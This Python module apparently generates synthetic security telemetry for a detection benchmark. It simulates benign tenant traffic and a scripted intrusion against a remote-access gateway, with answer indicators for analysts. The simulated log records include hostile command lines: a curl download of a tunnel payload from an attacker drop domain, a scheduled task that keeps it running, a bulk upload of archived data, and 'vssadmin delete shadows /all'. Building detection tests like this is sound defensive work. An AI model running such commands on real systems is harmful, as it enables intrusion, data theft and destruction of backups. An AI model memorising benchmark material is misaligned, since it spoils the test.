"""A second story of a campaign, and the benign things that tenants of one provider share.

Kept apart from the first story so that figures on it say what the first was not tuned to: the
attacker comes in through a remote-access gateway, not by mail.
"""

from __future__ import annotations

from collections.abc import Mapping
from datetime import datetime, timedelta
from hashlib import sha256
from random import Random

from schemas.tenant_slice import IndicatorKind
from sentree.evals.generate.campaign_ocsf import OcsfWriter
from sentree.evals.generate.campaign_plan import Arsenal

_SYSTEM = "C:\\Windows\\System32\\"
_SERVICES = (
    ("edge-7.fastobjects.example", "192.0.2.131"),
    ("time2.clockpool.example", "192.0.2.132"),
    ("agent.backupcloud.example", "192.0.2.133"),
    ("crm.pipelines.example", "192.0.2.134"),
    ("telemetry.printerworks.example", "192.0.2.135"),
)
_RESOLVER = "192.0.2.53"
_PARTNER, _TESTER = "192.0.2.77", "192.0.2.99"
_SCANNERS = tuple(f"192.0.2.{n}" for n in range(210, 235))
_LISTS = tuple(f"digest@letters{n}.example" for n in range(25))


def common_services(
    writer: OcsfWriter, start: datetime, days: int, *, partner: bool, tested: bool
) -> None:
    """Add what several tenants have in common without any attack.

    Object storage, time, backup, software as a service; mail lists and scanners of the internet;
    updates by night. `partner`: another company's gateway signs in here. `tested`: a hired tester
    scans the tenant and some guesses fail.
    """
    rng, hosts = writer.rng, len(writer.company.hosts)
    used = rng.sample(_SERVICES, 3)
    for _ in range(40 * days):
        name, ip = rng.choice(used)
        time, host = start + timedelta(days=days) * rng.random(), rng.randrange(hosts)
        writer.dns(time, host, name, ip)
        writer.connection(time + timedelta(seconds=1), host, name, ip)
    for _ in range(10 * days):
        moment = start + timedelta(days=days) * rng.random()
        source = {"ip": rng.choice(_SCANNERS), "port": 40000}
        _knock(writer, moment, rng.randrange(3), source)
        moment = start + timedelta(days=days) * rng.random()
        who = rng.choice(writer.company.people)
        mail = {
            "from": rng.choice(_LISTS),
            "to": [f"{who}@{writer.company.domain}"],
            "subject": "This week",
        }
        writer.add(moment, 4009, 1, None, email=mail, direction_id=1)
    for night in range(days):
        _update(writer, start + timedelta(days=night, hours=2), f"2026.{night}")
    moment = start + timedelta(days=days) * rng.uniform(0.2, 0.8)
    if partner:
        for n in range(12):
            writer.add(
                moment + timedelta(minutes=17 * n), 3002, 1, n % 3, status_id=1,
                user={"name": writer.company.people[n % 4], "type_id": 1},
                src_endpoint={"ip": _PARTNER},
            )  # fmt: skip
    if tested:
        for n in range(60):
            time = moment + timedelta(seconds=5 * n)
            _knock(writer, time, n % hosts, {"ip": _TESTER, "port": 40000 + n})
        writer.finding(
            moment + timedelta(seconds=200), 0, "Port scan", "T1046", 3,
            evidences=[{"src_endpoint": {"ip": _TESTER}}],
        )  # fmt: skip


def _knock(writer: OcsfWriter, time: datetime, host: int, source: Mapping[str, object]) -> None:
    writer.add(
        time, 4001, 5, host, status_id=2, src_endpoint=source,
        dst_endpoint={"ip": writer.company.hosts[host][1], "port": writer.rng.randrange(1, 9000)},
        connection_info={"direction_id": 1},
    )  # fmt: skip


def _update(writer: OcsfWriter, night: datetime, version: str) -> None:
    """Add the nightly update of one program on a few machines."""
    digest = sha256(f"papertray {version}".encode()).hexdigest()
    for host in writer.rng.sample(range(len(writer.company.hosts)), 2):
        time = night + timedelta(minutes=writer.rng.randrange(90))
        path = f"C:\\ProgramData\\PaperTray\\papertray-{version}.exe"
        writer.dns(time, host, "updates.papertray.example", "192.0.2.140")
        writer.connection(
            time + timedelta(seconds=1), host, "updates.papertray.example", "192.0.2.140"
        )
        writer.file(time + timedelta(seconds=5), host, path, digest)
        writer.process(
            time + timedelta(seconds=9), host, _SYSTEM + "svchost.exe", path, path, digest
        )


def break_in(writer: OcsfWriter, kit: Arsenal, start: datetime) -> list[tuple[IndicatorKind, str]]:
    """Add the attack and give the values it leaves that an analyst should find.

    Passwords are guessed at the gateway; a tunnel is set up on a server, a task keeps it; files are
    packed with the system's own tools and leave through the tunnel's host; backups are removed.
    """
    rng, company = writer.rng, writer.company
    server, other, time = rng.randrange(3), rng.randrange(3, len(company.hosts)), start
    source = {"ip": kit.cloud_address}
    for n in range(30):
        writer.add(
            time + timedelta(seconds=20 * n), 3002, 1, server, status_id=1 if n == 29 else 2,
            user={"name": rng.choice(company.people), "type_id": 1}, src_endpoint=source,
        )  # fmt: skip
    writer.finding(
        time + timedelta(minutes=11), server, "Guessing at the gateway", "T1110.003", 3,
        evidences=[{"src_endpoint": source}],
    )  # fmt: skip
    time += timedelta(minutes=rng.randrange(20, 50))
    url = f"https://{kit.drop_domain}{kit.url_path}"
    tunnel = f"C:\\PerfLogs\\{kit.payload}"
    cmd = _SYSTEM + "cmd.exe"
    writer.process(time, server, cmd, _SYSTEM + "curl.exe", f"curl -o {tunnel} {url}")
    writer.dns(time + timedelta(seconds=1), server, kit.drop_domain, kit.drop_address)
    writer.connection(time + timedelta(seconds=2), server, kit.drop_domain, kit.drop_address)
    writer.file(time + timedelta(seconds=6), server, tunnel, kit.payload_hash)
    writer.finding(time + timedelta(seconds=8), server, "Download by curl", "T1105", 3)
    time += timedelta(minutes=rng.randrange(2, 6))
    writer.process(time, server, cmd, tunnel, f"{tunnel} -c {kit.domain}", kit.payload_hash)
    writer.dns(time + timedelta(seconds=2), server, kit.domain, kit.address)
    for n in range(20):
        moment = time + timedelta(seconds=4, minutes=30 * n)
        writer.connection(moment, server, kit.domain, kit.address)
    writer.finding(
        time + timedelta(minutes=3), server, "Tunnel to outside", "T1572", 4,
        evidences=[{"dst_endpoint": {"ip": kit.address, "hostname": kit.domain}}],
    )  # fmt: skip
    time += timedelta(minutes=rng.randrange(10, 40))
    line = f"schtasks /create /tn {kit.service} /tr {tunnel} /sc onstart"
    writer.process(time, server, cmd, _SYSTEM + "schtasks.exe", line)
    writer.finding(time + timedelta(seconds=3), server, "Task in an odd folder", "T1053.005", 3)
    time += timedelta(hours=rng.randrange(2, 6))
    writer.add(
        time, 3002, 1, other, status_id=1, user={"name": company.people[1], "type_id": 1},
        src_endpoint={"ip": company.hosts[server][1]}, logon_type_id=10,
    )  # fmt: skip
    copied = f"C:\\PerfLogs\\{kit.lure.replace('.docm', '.exe')}"
    writer.file(time + timedelta(seconds=40), other, copied, kit.lure_hash)
    writer.process(time + timedelta(seconds=50), other, cmd, copied, copied, kit.lure_hash)
    writer.finding(time + timedelta(seconds=55), other, "Memory of LSASS read", "T1003.001", 4)
    time += timedelta(hours=1, minutes=rng.randrange(40))
    writer.process(time, server, cmd, _SYSTEM + "tar.exe", "tar -cf C:\\PerfLogs\\a.tar D:\\Data")
    writer.connection(
        time + timedelta(minutes=4), server, kit.drop_domain, kit.drop_address, 700_000_000
    )
    writer.finding(time + timedelta(minutes=5), server, "Large upload", "T1048", 3)
    time += timedelta(minutes=20)
    writer.process(time, server, cmd, _SYSTEM + "vssadmin.exe", "vssadmin delete shadows /all")
    writer.finding(time + timedelta(seconds=5), server, "Shadow copies removed", "T1490", 4)
    writer.neutral |= {kit.service, "a.tar", "curl.exe", "tar.exe"}
    return [
        ("ip", kit.cloud_address), ("domain", kit.drop_domain), ("ip", kit.drop_address),
        ("url", url), ("hash", kit.payload_hash), ("file", kit.payload), ("domain", kit.domain),
        ("ip", kit.address), ("hash", kit.lure_hash), ("file", copied.rpartition("\\")[2]),
    ]  # fmt: skip


def chosen(rng: Random, names: list[str], members: list[str]) -> tuple[set[str], set[str]]:
    """Choose the tenants of the partner and of the tester: one of the attacked, others not."""
    rest = [name for name in names if name not in members]
    return (
        {*members[:1], *rng.sample(rest, min(2, len(rest)))},
        {*members[-1:], *rng.sample(rest, min(1, len(rest)))},
    )
